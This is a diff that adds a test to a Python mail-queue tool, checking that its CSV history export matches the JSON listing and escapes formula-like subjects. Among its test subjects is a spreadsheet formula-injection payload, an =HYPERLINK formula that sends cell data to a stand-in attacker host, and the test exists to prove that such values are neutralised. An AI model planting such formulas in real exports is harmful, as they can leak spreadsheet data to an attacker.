@@ -4,6 +4,8 @@ no `None` for an absent code, each recipient's outcome and failover tries per at
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import socket
 import time
@@ -161,3 +163,42 @@ def test_the_listings_options_before_a_subcommand_reach_it_or_are_refused(tmp_pa
     assert refused.exit_code == 2
     assert "--status is an option of `" in refused.output
     assert "history` (the listing), not of `" in refused.output
+
+
+def test_a_csv_listing_is_every_field_of_the_json_one_and_runs_no_formula(tmp_path):
+    """`--format csv` for a spreadsheet: the JSON listing's keys as its header, a line a
+    message, quoted where needed; what a sender wrote that a spreadsheet would run as a
+    formula (a hostile Subject) is text, behind a leading '."""
+    cfg = write_config(tmp_path, server_yaml("main", _dead_port()), accounts=SALES)
+    subjects = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)",
+                'Quote "Q-1", with a comma', "-1 day left", "plain"]
+    for subject in subjects:
+        drop(tmp_path / "spool", user="alice", to=["ann@example.org"], subject=subject,
+             text="x")
+    run_once(cfg)  # queued, then deferred: the server is down
+    as_json = history(cfg)
+    out = run(["history", "-c", str(cfg), "--format", "csv"])
+    assert out.exit_code == 0, out.output
+    assert out.stdout_bytes.endswith(b"\r\n")  # RFC 4180's line ends
+    rows = list(csv.DictReader(io.StringIO(out.stdout)))
+    assert list(rows[0]) == list(as_json[0])  # the same keys, in the same order
+    assert [r["id"] for r in rows] == [str(j["id"]) for j in as_json]
+    by_id = {r["id"]: r for r in rows}
+    for j in as_json:
+        r = by_id[str(j["id"])]
+        assert (r["status"], r["to"], r["attempts"], r["error"]) == (
+            "deferred", "ann@example.org", str(j["attempts"]), j["error"])
+        assert r["recipient_statuses"] == "; ".join(
+            f"{k}={v}" for k, v in j["recipient_statuses"].items()) and r["reason"] == ""
+        wanted = j["subject"] if j["subject"][0] not in "=+-@" else "'" + j["subject"]
+        assert r["subject"] == wanted
+    assert sorted(r["subject"] for r in rows) == sorted(
+        ["'" + s if s[0] in "=@-" else s for s in subjects])
+    # A limit's note goes to stderr: the file holds the rows alone.
+    some = run(["history", "-c", str(cfg), "--format", "csv", "--limit", "2"])
+    assert len(some.stdout.splitlines()) == 1 + 2
+    assert some.stderr.strip() == "showing 2 of 5 (--limit)"
+    none = run(["history", "-c", str(cfg), "--format", "csv", "--status", "sent"])
+    assert none.stdout.splitlines() == [",".join(as_json[0])]  # the header alone
+    queued = run(["queue", "list", "-c", str(cfg), "--format", "csv"])
+    assert len(list(csv.DictReader(io.StringIO(queued.stdout)))) == 5
